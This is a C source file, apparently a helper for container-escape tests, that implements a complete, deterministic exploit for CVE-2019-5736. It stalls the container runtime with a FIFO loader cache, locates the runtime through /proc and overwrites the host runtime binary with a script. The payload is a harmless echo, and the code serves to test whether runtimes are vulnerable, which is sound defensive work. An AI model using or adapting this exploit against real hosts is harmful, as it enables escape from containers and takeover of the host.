/* exe_attacker: CVE-2019-5736 from inside a container, for the escape-binary
 * tests.  Static, so it runs in a busybox rootfs.
 *
 *   exe_attacker SHARED [TIMEOUT_SECONDS]
 *
 * SHARED is a directory bind mounted from the host, holding `ld.so` (the
 * host's dynamic loader).  The attacker:
 *
 *  1. prepares the rootfs: /bin/true becomes `#!/proc/self/exe`, so a
 *     runtime that executes /bin/true in the container re-executes its own
 *     binary there; the host's loader is installed so that binary can start;
 *     /etc/ld.so.cache becomes a FIFO, so the loader blocks opening it and
 *     the runtime's process stays alive until the attacker lets it go (no
 *     race to win, the attack is deterministic);
 *  2. writes SHARED/ready, then scans /proc for a process whose exe is
 *     neither busybox nor the attacker itself, opens its /proc/PID/exe with
 *     O_PATH and writes SHARED/saw ("PID EXE-LINK");
 *  3. releases the loader (opens and closes the FIFO's write end), so the
 *     process exits, and reopens /proc/self/fd/N with O_WRONLY|O_TRUNC until
 *     ETXTBSY clears, as the published exploit does;
 *  4. writes SHARED/result: "wrote" (it replaced the binary with a shell
 *     script), "refused ERRNO-NAME" (the open failed for another reason than
 *     ETXTBSY), or "timeout ..." when TIMEOUT_SECONDS (default 30) ran out.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static const char *shared;
static double deadline;

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void pause_briefly(void)
{
    struct timespec ts = {0, 1000000}; /* 1 ms between polls of /proc */
    nanosleep(&ts, NULL);
}

static void report(const char *name, const char *fmt, ...)
{
    char path[4096], tmp[4200], buf[4096];
    va_list ap;
    FILE *f;

    va_start(ap, fmt);
    vsnprintf(buf, sizeof(buf), fmt, ap);
    va_end(ap);
    snprintf(path, sizeof(path), "%s/%s", shared, name);
    snprintf(tmp, sizeof(tmp), "%s.tmp", path);
    f = fopen(tmp, "we");
    if (f == NULL || fputs(buf, f) < 0 || fclose(f) != 0 || rename(tmp, path) < 0) {
        perror(path);
        exit(2);
    }
}

static void die(const char *what)
{
    report("result", "setup failed: %s: %s\n", what, strerror(errno));
    exit(2);
}

static void copy_file(const char *from, const char *to, mode_t mode)
{
    char buf[65536];
    ssize_t n;
    int in = open(from, O_RDONLY | O_CLOEXEC), out;

    if (in < 0)
        die(from);
    unlink(to);
    out = open(to, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, mode);
    if (out < 0)
        die(to);
    while ((n = read(in, buf, sizeof(buf))) > 0)
        if (write(out, buf, (size_t)n) != n)
            die(to);
    if (n < 0 || close(out) < 0)
        die(to);
    close(in);
}

static void prepare_rootfs(void)
{
    char ldso[4096];
    int fd;

    snprintf(ldso, sizeof(ldso), "%s/ld.so", shared);
    mkdir("/lib64", 0755);
    copy_file(ldso, "/lib64/ld-linux-x86-64.so.2", 0755);
    mkdir("/etc", 0755);
    unlink("/etc/ld.so.cache");
    if (mkfifo("/etc/ld.so.cache", 0644) < 0)
        die("mkfifo /etc/ld.so.cache");
    unlink("/bin/true");
    fd = open("/bin/true", O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0755);
    if (fd < 0 || write(fd, "#!/proc/self/exe\n", 17) != 17 || close(fd) < 0)
        die("/bin/true");
}

/* A process whose exe is the runtime: not busybox, not us.  Returns an
 * O_PATH fd on its exe, or -1 while none is there yet. */
static int find_target(const char *self, pid_t *ret_pid, char *link, size_t size)
{
    struct dirent *de;
    DIR *d = opendir("/proc");
    int fd = -1;

    if (d == NULL)
        die("/proc");
    while (fd < 0 && (de = readdir(d)) != NULL) {
        char path[64];
        const char *base;
        ssize_t n;
        pid_t pid = (pid_t)atoi(de->d_name);

        if (pid <= 0 || pid == getpid())
            continue;
        snprintf(path, sizeof(path), "/proc/%d/exe", pid);
        n = readlink(path, link, size - 1);
        if (n < 0)
            continue; /* gone, a kernel thread, or not dumpable (yet) */
        link[n] = '\0';
        base = strrchr(link, '/');
        base = base ? base + 1 : link;
        if (strncmp(base, "busybox", 7) == 0 || strcmp(link, self) == 0)
            continue;
        fd = open(path, O_PATH | O_CLOEXEC);
        *ret_pid = pid;
    }
    closedir(d);
    return fd;
}

int main(int argc, char **argv)
{
    static const char payload[] = "#!/bin/sh\necho the host binary was replaced from a container\n";
    char self[4096], link[4096], fdpath[64];
    ssize_t n;
    pid_t pid = 0;
    int exe, w, fifo;

    if (argc < 2) {
        fprintf(stderr, "usage: %s SHARED [TIMEOUT_SECONDS]\n", argv[0]);
        return 2;
    }
    shared = argv[1];
    deadline = now() + (argc > 2 ? atof(argv[2]) : 30.0);
    n = readlink("/proc/self/exe", self, sizeof(self) - 1);
    if (n < 0)
        die("/proc/self/exe");
    self[n] = '\0';

    prepare_rootfs();
    report("ready", "%d\n", (int)getpid());

    while ((exe = find_target(self, &pid, link, sizeof(link))) < 0) {
        if (now() > deadline) {
            report("result", "timeout: no runtime process appeared\n");
            return 1;
        }
        pause_briefly();
    }
    report("saw", "%d %s\n", (int)pid, link);

    /* The process is blocked opening the FIFO (or about to): let it go. */
    while ((fifo = open("/etc/ld.so.cache", O_WRONLY | O_NONBLOCK | O_CLOEXEC)) < 0) {
        if (errno != ENXIO || now() > deadline) {
            report("result", "timeout: could not release the loader: %s\n", strerror(errno));
            return 1;
        }
        pause_briefly();
    }
    close(fifo);

    snprintf(fdpath, sizeof(fdpath), "/proc/self/fd/%d", exe);
    for (;;) {
        w = open(fdpath, O_WRONLY | O_TRUNC | O_CLOEXEC);
        if (w >= 0)
            break;
        if (errno != ETXTBSY) {
            report("result", "refused %s (%s)\n", strerrorname_np(errno), strerror(errno));
            return 0;
        }
        if (now() > deadline) {
            report("result", "timeout: still ETXTBSY\n");
            return 1;
        }
        pause_briefly();
    }
    if (write(w, payload, sizeof(payload) - 1) != (ssize_t)sizeof(payload) - 1) {
        report("result", "opened for writing, write failed: %s\n", strerror(errno));
        return 0;
    }
    close(w);
    report("result", "wrote\n");
    return 0;
}
